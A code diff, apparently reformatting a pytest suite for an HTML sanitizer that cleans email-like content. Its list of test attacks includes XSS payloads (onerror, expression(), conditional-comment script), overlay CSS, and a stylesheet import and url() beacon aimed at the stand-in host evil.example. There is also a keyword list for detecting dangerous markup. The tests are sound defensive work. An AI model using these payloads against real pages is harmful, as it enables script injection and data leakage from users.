@@ -38,14 +38,16 @@ ATTACKS = [
     "<div style='width:expression(alert(1))'>x</div>",
     "<div style='position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999'>x</div>",
     "<div style='margin-top:-500px'>x</div>",
-    "<div style='font-family:\"x\\\";}body{display:none\"'>x</div>",
+    '<div style=\'font-family:"x\\";}body{display:none"\'>x</div>',
     "<style>@import 'https://evil.example/x.css'; a[href^=a]{background:url(https://evil.example/a)}</style>",
     "<p id=message-1 class=toast name=x>x</p>",
     "<xmp><img src=x onerror=alert(1)></xmp><textarea><img src=x onerror=alert(1)></textarea>",
     "<!--[if IE]><script>alert(1)</script><![endif]-->",
     "<template><img src=x onerror=alert(1)></template>",
 ]
-FETCHES = re.compile(r"""\s(?:src|srcset|background|poster|action|data|formaction|id|class|name|on\w+)\s*=""", re.IGNORECASE)
+FETCHES = re.compile(
+    r"""\s(?:src|srcset|background|poster|action|data|formaction|id|class|name|on\w+)\s*=""", re.IGNORECASE
+)
 
 
 @pytest.mark.parametrize("attack", ATTACKS)
@@ -53,13 +55,30 @@ def test_an_attack_leaves_nothing_that_acts_or_fetches(attack: str) -> None:
     safe = clean_html(f"<p>before</p>{attack}<p>after</p>", cids={"a@x": "a@x"})["html"]
     tags = re.findall(r"<[^>]*>", safe)
     assert not any(FETCHES.search(re.sub(r'="[^"]*"', "=", tag)) for tag in tags), safe
-    for word in ("javascript:", "expression", "url(", "<script", "<style", "<svg", "<math", "<form", "<iframe", "position", "-500px"):
+    for word in (
+        "javascript:",
+        "expression",
+        "url(",
+        "<script",
+        "<style",
+        "<svg",
+        "<math",
+        "<form",
+        "<iframe",
+        "position",
+        "-500px",
+    ):
         assert word not in re.sub(r"&lt;.*?&gt;", "", safe).lower(), safe
-    assert all(tag.startswith(('href="https://', 'href="http://', 'href="mailto:', 'href="tel:')) for tag in re.findall(r'href="[^"]*"', safe))
+    assert all(
+        tag.startswith(('href="https://', 'href="http://', 'href="mailto:', 'href="tel:'))
+        for tag in re.findall(r'href="[^"]*"', safe)
+    )
 
 
 def test_cleaning_twice_changes_nothing() -> None:
-    once = clean_html("".join(ATTACKS) + '<b style="color:red">x</b><img src="https://x.example/a&amp;b">', cids={})["html"]
+    once = clean_html("".join(ATTACKS) + '<b style="color:red">x</b><img src="https://x.example/a&amp;b">', cids={})[
+        "html"
+    ]
     again = clean_html(once, cids={})["html"]
     assert re.sub(r' data-remote="[^"]*"', "", again) == re.sub(r' data-remote="[^"]*"', "", once)
 
@@ -97,7 +116,13 @@ def test_words_of_html_read_like_the_page() -> None:
 
 @pytest.mark.parametrize(
     "html",
-    ["<div>" * 100_000 + "words", "<b>x</b>" * 60_000, "x<br>" * 300_000, "<i></x>" * 400 + "words", "<a href='https://x.example'>x</a>" * 5001],
+    [
+        "<div>" * 100_000 + "words",
+        "<b>x</b>" * 60_000,
+        "x<br>" * 300_000,
+        "<i></x>" * 400 + "words",
+        "<a href='https://x.example'>x</a>" * 5001,
+    ],
     ids=["depth", "tags", "size", "depth behind closing tags", "links"],
 )
 def test_html_over_a_limit_is_shown_as_its_words(html: str) -> None:
